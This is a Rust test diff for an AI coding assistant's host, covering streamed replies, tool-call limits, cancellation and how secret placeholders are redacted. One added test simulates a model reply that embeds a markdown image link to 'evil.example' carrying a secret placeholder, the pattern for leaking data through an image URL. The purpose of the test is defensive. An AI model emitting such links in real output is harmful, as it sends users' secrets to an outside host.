@@ -119,11 +119,15 @@ impl SendHost for Host {
 
 impl Host {
     fn new() -> Self {
+        Self::with(Settings::default())
+    }
+
+    fn with(settings: Settings) -> Self {
         let folder = tempfile::tempdir().unwrap();
         fs::write(folder.path().join("lib.py"), "def greet(name):\n    return name\n\ngreet('Ada')\n")
             .unwrap();
         fs::write(folder.path().join("hidden.py"), "def greet_in_secret():\n    pass\n").unwrap();
-        let mut workspace = HeadlessWorkspace::open(folder.path(), Settings::default()).unwrap();
+        let mut workspace = HeadlessWorkspace::open(folder.path(), settings).unwrap();
         workspace.index(|_| ()).unwrap();
         workspace.open_session(SessionSource::InMemory).unwrap();
         Self { workspace, shown: Vec::new(), _folder: folder }
@@ -159,7 +163,7 @@ impl Host {
     }
 
     fn text(&self) -> String {
-        self.shown.iter().filter_map(|delta| delta.text.clone()).collect()
+        self.shown.iter().filter_map(|delta| Some(delta.text.as_ref()?.for_terminal())).collect()
     }
 }
 
@@ -172,7 +176,10 @@ fn an_answer_is_shown_recorded_and_summed_up() {
     let mut host = Host::new();
     let (reply, bodies) = host.ask(vec![Turn::Says(vec!["Ad".to_owned(), "a.".to_owned()])], 16);
     let reply = reply.unwrap();
-    assert_eq!((&*reply.text, reply.end, reply.requests, reply.rounds), ("Ada.", SendEnd::Complete, 1, 0));
+    assert_eq!(
+        (reply.text.for_terminal(), reply.end, reply.requests, reply.rounds),
+        ("Ada.", SendEnd::Complete, 1, 0)
+    );
     assert_eq!(host.text(), "Ada.");
     assert_eq!((reply.usage, reply.cost.read_share), (USAGE, 0.8));
     assert!(reply.cost.paid < reply.cost.uncached && reply.cost.uncached == 100.0, "{:?}", reply.cost);
@@ -204,7 +211,10 @@ fn the_model_looks_things_up_and_each_call_is_shown() {
     ];
     let (reply, bodies) = host.ask(turns, 16);
     let reply = reply.unwrap();
-    assert_eq!((&*reply.text, reply.rounds, reply.requests, reply.usage.input), ("lib.py does.", 4, 5, 50));
+    assert_eq!(
+        (reply.text.for_terminal(), reply.rounds, reply.requests, reply.usage.input),
+        ("lib.py does.", 4, 5, 50)
+    );
     let failed: Vec<bool> = reply.tools.iter().map(|used| used.failed).collect();
     assert_eq!(failed, [false, false, false, true, true, true, false, false]);
     let results: Vec<String> =
@@ -244,7 +254,7 @@ fn rounds_of_tool_calls_have_an_end() {
     assert!(!bodies[1].to_string().contains("No more tool calls are possible"));
     // The conversation can continue, because every tool call has an answer.
     let (reply, _) = host.ask(vec![says("Well.")], 2);
-    assert_eq!(reply.unwrap().text, "Well.");
+    assert_eq!(reply.unwrap().text.for_terminal(), "Well.");
 }
 
 #[test]
@@ -252,10 +262,10 @@ fn what_was_said_until_it_was_stopped_is_recorded() {
     let mut host = Host::new();
     let turns = vec![Turn::Calls(vec![("map", json!({}))]), Turn::IsStopped("It is")];
     let reply = host.ask(turns, 16).0.unwrap();
-    assert_eq!((reply.end, &*reply.text, reply.error), (SendEnd::Cancelled, "It is", None));
+    assert_eq!((reply.end, reply.text.for_terminal(), reply.error), (SendEnd::Cancelled, "It is", None));
     assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It is");
     let reply = host.ask(vec![Turn::IsCut("It may")], 16).0.unwrap();
-    assert_eq!((reply.end, &*reply.text), (SendEnd::Cut, "It may"));
+    assert_eq!((reply.end, reply.text.for_terminal()), (SendEnd::Cut, "It may"));
     assert!(reply.error.unwrap().contains("the connection broke"));
     assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It may");
 }
@@ -271,7 +281,7 @@ fn a_prompt_that_is_too_long_is_sent_once_more_and_not_twice() {
     let too_long = || Turn::IsRefused(ProviderErrorKind::ContextLimit);
     let (reply, bodies) = host.ask(vec![too_long(), says("Now it fits.")], 16);
     let reply = reply.unwrap();
-    assert_eq!((&*reply.text, reply.requests), ("Now it fits.", 1));
+    assert_eq!((reply.text.for_terminal(), reply.requests), ("Now it fits.", 1));
     assert!(reply.warnings.iter().any(|warning| warning.contains("compacted")), "{:?}", reply.warnings);
     assert!(host.shown.iter().any(|delta| delta.notice.is_some()));
     assert!(bodies[1].to_string().len() < bodies[0].to_string().len() / 2);
@@ -297,15 +307,37 @@ fn a_request_that_is_refused_leaves_nothing_behind() {
 }
 
 #[test]
-fn a_placeholder_that_comes_in_pieces_is_shown_as_the_secret() {
-    let mut host = Host::new();
+fn a_placeholder_that_comes_in_pieces_is_shown_as_the_secret_if_the_user_wishes() {
+    for shows in [false, true] {
+        let mut settings = Settings::default();
+        settings.redaction.show_secrets = shows;
+        let mut host = Host::with(settings);
+        let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
+        let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
+        assert!(placeholder.starts_with("[secret:"), "{placeholder}");
+        let answer = |word: &str| format!("Use {word}! ![x](https://evil.example/?q={placeholder})");
+        let pieces = answer(&placeholder).chars().map(String::from).collect();
+        let reply = host.ask(vec![Turn::Says(pieces)], 16).0.unwrap();
+        let expected = answer(if shows { &secret } else { &placeholder });
+        assert_eq!((reply.text.for_terminal(), host.text()), (&*expected, expected.clone()));
+        // The stored message, which is sent again, and the text for documents contain the placeholder.
+        let kept = host.messages().last().unwrap().to_string();
+        assert!(kept.contains(&placeholder) && !kept.contains(&secret), "{kept}");
+        assert_eq!(reply.written, answer(&placeholder));
+    }
+}
+
+#[test]
+fn no_tool_that_strata_runs_gets_a_secret() {
+    let mut settings = Settings::default();
+    settings.redaction.show_secrets = true;
+    settings.redaction.edit_tools = vec!["grep".to_owned()];
+    let mut host = Host::with(settings);
     let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
     let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
-    assert!(placeholder.starts_with("[secret:"), "{placeholder}");
-    let pieces = format!("Use {placeholder}!").chars().map(String::from).collect();
-    let reply = host.ask(vec![Turn::Says(pieces)], 16).0.unwrap();
-    assert_eq!((reply.text, host.text()), (format!("Use {secret}!"), format!("Use {secret}!")));
-    // The stored message, which is sent again, contains the placeholder.
-    let kept = host.messages().last().unwrap().to_string();
-    assert!(kept.contains(&placeholder) && !kept.contains(&secret), "{kept}");
+    let calls = Turn::Calls(vec![("grep", json!({ "pattern": placeholder }))]);
+    let reply = host.ask(vec![calls, says("No.")], 16).0.unwrap();
+    assert_eq!(reply.tools[0].input["pattern"], json!(placeholder));
+    let call = host.shown.iter().find_map(|delta| delta.tool_call.as_ref()).unwrap();
+    assert_eq!(call.input["pattern"], json!(placeholder));
 }
